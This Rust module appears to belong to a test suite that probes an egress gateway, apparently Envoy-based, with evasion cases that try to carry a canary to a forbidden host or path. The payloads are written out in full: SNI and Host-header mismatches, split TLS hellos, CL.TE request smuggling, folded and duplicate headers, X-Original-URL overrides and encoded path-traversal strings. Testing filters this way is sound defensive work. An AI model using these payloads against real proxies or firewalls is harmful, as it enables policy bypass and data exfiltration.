//! Names and requests that say one thing to the gateway and another to whom it leads.

use std::io::{Read, Write};
use std::thread;
use std::time::Duration;

use super::{Ctx, Failed, Run, send, target, tls};
use crate::catalogue::names::{EVIL, GOOD, OPEN_PATH, PATHS, PLAIN};

const TLS: u16 = 443;
const HTTP: u16 = 80;

pub(super) const CODE: &[(&str, Run)] = &[
    ("tls-allowed-name-evil-address", |c| tls::talk((target::EVIL, TLS), Some(GOOD), &get(GOOD, &secret(c)))),
    ("tls-evil-name-allowed-address", |c| {
        tls::talk(send::resolve(GOOD, TLS)?, Some(EVIL), &get(EVIL, &secret(c)))
    }),
    ("tls-name-carries", |c| tls::talk((target::EVIL, TLS), Some(&c.name()), &get(EVIL, "/"))),
    ("tls-no-name", |c| tls::talk((target::EVIL, TLS), None, &get(EVIL, &secret(c)))),
    ("tls-suffix", |c| {
        let name = format!("evil{GOOD}");
        tls::talk((target::EVIL, TLS), Some(&name), &get(&name, &secret(c)))
    }),
    ("tls-split-hello", |c| {
        let mut stream = send::connect((target::EVIL, TLS))?;
        for byte in tls::hello(&c.name())? {
            stream.write_all(&[byte])?;
        }
        send::hear(&mut stream)
    }),
    ("tls-not-tls", |c| send::tcp((target::EVIL, TLS), c.canary.as_bytes())),
    ("tls-not-tls-allowed", |c| send::tcp(send::resolve(GOOD, TLS)?, c.canary.as_bytes())),
    ("tls-half-hello", |c| {
        let start = [&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3][..], c.canary.as_bytes()].concat();
        send::tcp((target::EVIL, TLS), &start)
    }),
    ("tls-other-port", |c| tls::talk((target::EVIL, 8443), Some(GOOD), &get(GOOD, &secret(c)))),
    ("tls-envoy-directly", |c| {
        tls::talk((c.places.envoy, c.places.listener), Some(GOOD), &get(GOOD, &secret(c)))
    }),
    ("http-host", |c| send::tcp((target::EVIL, HTTP), &get(EVIL, &secret(c)))),
    ("http-allowed-host-evil-address", |c| send::tcp((target::EVIL, HTTP), &get(PLAIN, &secret(c)))),
    ("http-evil-host-allowed-address", |c| send::tcp(send::resolve(PLAIN, HTTP)?, &get(EVIL, &secret(c)))),
    ("http-host-carries", |c| {
        send::tcp(send::resolve(PLAIN, HTTP)?, &get(&format!("{}.{PLAIN}", c.canary), "/"))
    }),
    ("http-absolute-form", |c| plain(&get(PLAIN, &format!("http://{}/", c.name())))),
    ("http-two-hosts", |c| {
        plain(format!("GET / HTTP/1.1\r\nHost: {PLAIN}\r\nHost: {}\r\n\r\n", c.name()).as_bytes())
    }),
    ("http-connect", |c| {
        let host = c.name();
        plain(format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n").as_bytes())
    }),
    ("http-pipelined", |c| {
        let two = [get(PLAIN, "/first"), get(EVIL, &secret(c))].concat();
        both(send::connect(send::resolve(PLAIN, HTTP)?)?, &two)
    }),
    ("http-smuggled", |c| {
        let hidden = get(EVIL, &secret(c));
        let head = format!(
            "POST / HTTP/1.1\r\nHost: {PLAIN}\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            hidden.len() + 5
        );
        both(send::connect(send::resolve(PLAIN, HTTP)?)?, &[head.as_bytes(), &hidden].concat())
    }),
    ("http-folded", |c| {
        plain(format!("GET / HTTP/1.1\r\nHost: {PLAIN}\r\n\t{}\r\n\r\n", c.name()).as_bytes())
    }),
    ("http-websocket", |c| {
        let upgrade = format!(
            "GET {} HTTP/1.1\r\nHost: {EVIL}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
             Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
            secret(c)
        );
        plain(upgrade.as_bytes())
    }),
    ("inspected-host", |c| inspected(&get(EVIL, &format!("{OPEN_PATH}{}", c.canary)))),
    ("inspected-second", |c| {
        let two = [get(PATHS, OPEN_PATH), get(EVIL, &format!("{OPEN_PATH}{}", c.canary))].concat();
        both(tls::open(send::resolve(PATHS, TLS)?, Some(PATHS))?, &two)
    }),
    ("inspected-absolute", |c| inspected(&get(PATHS, &format!("https://{EVIL}{OPEN_PATH}{}", c.canary)))),
    ("path-denied", |c| path(&format!("/denied/{}", c.canary))),
    ("path-dots", |c| path(&format!("{OPEN_PATH}../denied/{}", c.canary))),
    ("path-escaped-dots", |c| path(&format!("{OPEN_PATH}%2e%2e/denied/{}", c.canary))),
    ("path-escaped-slash", |c| path(&format!("{OPEN_PATH}..%2fdenied/{}", c.canary))),
    ("path-backslash", |c| path(&format!("{OPEN_PATH}..\\denied\\{}", c.canary))),
    ("path-twice-escaped", |c| path(&format!("{OPEN_PATH}%252e%252e/denied/{}", c.canary))),
    ("path-parameter", |c| path(&format!("{OPEN_PATH}..;x=1/denied/{}", c.canary))),
    ("path-double-slash", |c| path(&format!("//denied/{}", c.canary))),
    ("path-fragment", |c| path(&format!("/denied/{}#/../..{OPEN_PATH}", c.canary))),
    ("path-override", |c| {
        let (open, hidden) = (OPEN_PATH, format!("/denied/{}", c.canary));
        inspected(
            format!("GET {open} HTTP/1.1\r\nHost: {PATHS}\r\nX-Original-URL: {hidden}\r\n\r\n").as_bytes(),
        )
    }),
    ("path-pipelined", |c| {
        let two = [get(PATHS, OPEN_PATH), get(PATHS, &format!("/denied/{}", c.canary))].concat();
        both(tls::open(send::resolve(PATHS, TLS)?, Some(PATHS))?, &two)
    }),
];

fn secret(c: &Ctx) -> String {
    format!("/{}", c.canary)
}

/// A request, its target as it stands.
fn get(host: &str, target: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes()
}

/// To the host that is open to plain HTTP.
fn plain(bytes: &[u8]) -> Result<String, Failed> {
    send::tcp(send::resolve(PLAIN, HTTP)?, bytes)
}

/// To the host whose TLS is opened.
fn inspected(bytes: &[u8]) -> Result<String, Failed> {
    tls::talk(send::resolve(PATHS, TLS)?, Some(PATHS), bytes)
}

fn path(target: &str) -> Result<String, Failed> {
    inspected(&get(PATHS, target))
}

/// Two requests at once; the second answer counts.
fn both(mut stream: impl Read + Write, two: &[u8]) -> Result<String, Failed> {
    stream.write_all(two)?;
    stream.flush()?;
    let first = send::hear(&mut stream)?;
    thread::sleep(Duration::from_millis(200));
    Ok(send::hear(&mut stream).unwrap_or(first))
}
